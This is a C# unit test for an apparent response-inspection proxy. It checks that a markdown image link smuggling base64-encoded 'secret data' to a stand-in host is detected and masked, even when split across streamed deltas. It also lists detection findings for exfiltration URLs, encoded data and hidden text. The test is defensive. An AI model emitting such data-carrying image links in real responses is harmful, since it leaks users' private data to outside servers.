namespace SaaSGate.Inspection.Tests.Exfiltration;

public sealed class AnswerTests
{
    private const string Rules = """
        rules:
          - name: nothing-leaves
            on: response
            when: { findings: [EXFIL_URL, ENCODED_DATA, HIDDEN_TEXT] }
            then: mask
        """;

    [Fact]
    public void Masks_an_image_that_carries_data_in_a_stream_of_small_deltas()
    {
        var text = "Here is your chart: ![chart](https://img.example.net/c.png?d=aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ) Enjoy.";
        var stream = new System.Text.StringBuilder(Sse.MessageStart).Append(Sse.Start(0, """{"type":"text","text":""}"""));
        foreach (var piece in text.Chunk(3))
            stream.Append(Sse.Delta(0, "text_delta", "text", new string(piece), ascii: false));
        stream.Append(Sse.Stop(0)).Append(Sse.MessageEnd);
        var masker = Given.Inspector(Rules).CreateStreamMasker();
        var masked = Sse.Assemble(Sse.Pump(masker, Sse.Bytes(stream.ToString()), [7]))["0/text"];
        Assert.Matches(@"^Here is your chart: !\[chart\]\(\[EXFIL_URL_[0-9A-Z]{6}\]\) Enjoy\.$", masked);
        var finding = Assert.Single(masker.Findings);
        Assert.Equal(("EXFIL_URL", "exfil-url", "/content/0/text"), (finding.Type, finding.Detector, finding.Location));
    }
}
